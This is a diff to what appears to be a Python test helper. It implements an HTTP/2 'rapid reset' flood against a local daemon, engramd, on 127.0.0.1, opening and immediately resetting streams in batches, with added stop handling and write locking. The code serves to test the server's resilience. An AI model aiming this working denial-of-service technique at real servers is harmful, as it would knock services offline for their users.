@@ -205,56 +205,89 @@ def _headers(path):
                      _literal(b"te", b"trailers")])
 
 
-def reset_streams(port, seconds, ca=None, path="/engram.v1.Engram/GetStore", connected=None):
+def reset_streams(port, seconds, ca=None, path="/engram.v1.Engram/GetStore", connected=None,
+                  stop=None):
     """HTTP/2 "rapid reset": opens streams of `path` on 127.0.0.1:`port` and
     resets each at once (HEADERS then RST_STREAM, 100 to a write) for
-    `seconds`, on a new connection whenever the server closes one; over TLS
-    (trusting the CA file `ca`) if given. With `connected` (a
-    threading.Barrier) the first connection waits there before its first
-    stream, so that several attackers are all connected before any is cut
-    (and its address kept out). Returns the streams written and the
+    `seconds`, or until the threading.Event `stop` is set if given (then
+    `seconds` is the most it goes on), on a new connection whenever the
+    server closes one; over TLS (trusting the CA file `ca`) if given. With
+    `connected` (a threading.Barrier) the first connection waits there before
+    its first stream, so that several attackers are all connected before any
+    is cut (and its address kept out). Returns the streams written and the
     connections made."""
     headers = _headers(path)
     end = time.time() + seconds
+
+    def over():
+        return time.time() >= end or (stop is not None and stop.is_set())
+
     count = made = 0
-    while time.time() < end:
+    while not over():
         try:
             s = socket.create_connection(("127.0.0.1", port), timeout=5)
         except OSError:
             time.sleep(0.01)
             continue
         made += 1
-        s.settimeout(seconds + 5)  # engramd may stop reading: a write gives up.
         try:
             if ca:
                 context = ssl.create_default_context(cafile=ca)
                 context.set_alpn_protocols(["h2"])
                 s = context.wrap_socket(s, server_hostname="localhost")
-            s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(4, 0, 0))
-            threading.Thread(target=_answer_settings_and_pings, args=(s,), daemon=True).start()
+            # engramd may stop reading (a connection cut, or one it has not
+            # got to yet): a write waits in short turns, to hear `over`.
+            s.settimeout(0.5)
+            if not _send(s, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(4, 0, 0), over):
+                break
+            writing = threading.Lock()  # Frames go out whole.
+            threading.Thread(target=_answer_settings_and_pings, args=(s, writing, over),
+                             daemon=True).start()
             if connected is not None and made == 1:
                 connected.wait(timeout=seconds)
             stream = 1
-            while time.time() < end and stream < 2**31 - 1000:
+            while not over() and stream < 2**31 - 1000:
                 batch = b""
                 for _ in range(100):
                     batch += (_frame(1, 4, stream, headers) +
                               _frame(3, 0, stream, struct.pack(">I", 8)))
                     stream += 2
-                s.sendall(batch)
+                with writing:
+                    if not _send(s, batch, over):
+                        break
                 count += 100
         except OSError:
             pass  # engramd closed the connection: another.
-        s.close()
+        finally:
+            s.close()
     return count, made
 
 
-def _answer_settings_and_pings(s):
-    """Acknowledges the server's settings and pings until the connection ends."""
+def _send(s, data, over):
+    """Writes all of `data` to `s` (whose timeout is short), waiting while
+    the peer does not read; false if `over()` became true first. An error
+    (the peer closed) is raised."""
+    view = memoryview(data)
+    while view:
+        if over():
+            return False
+        try:
+            view = view[s.send(view):]
+        except (socket.timeout, ssl.SSLWantWriteError):
+            continue  # Nothing written: the peer is not reading.
+    return True
+
+
+def _answer_settings_and_pings(s, writing, over):
+    """Acknowledges the server's settings and pings until the connection
+    ends or `over()`; a frame goes out whole, holding the lock `writing`."""
     pending = b""
     try:
-        while True:
-            data = s.recv(65536)
+        while not over():
+            try:
+                data = s.recv(65536)
+            except socket.timeout:
+                continue
             if not data:
                 return
             pending += data
@@ -263,10 +296,10 @@ def _answer_settings_and_pings(s):
                 if len(pending) < 9 + length:
                     break
                 kind, flags = pending[3], pending[4]
-                if kind == 4 and not flags & 1:
-                    s.sendall(_frame(4, 1, 0))
-                if kind == 6 and not flags & 1:
-                    s.sendall(_frame(6, 1, 0, pending[9:9 + length]))
+                if kind in (4, 6) and not flags & 1:
+                    with writing:
+                        _send(s, _frame(kind, 1, 0, pending[9:9 + length] if kind == 6 else b""),
+                              over)
                 pending = pending[9 + length:]
     except (OSError, ValueError):
         return
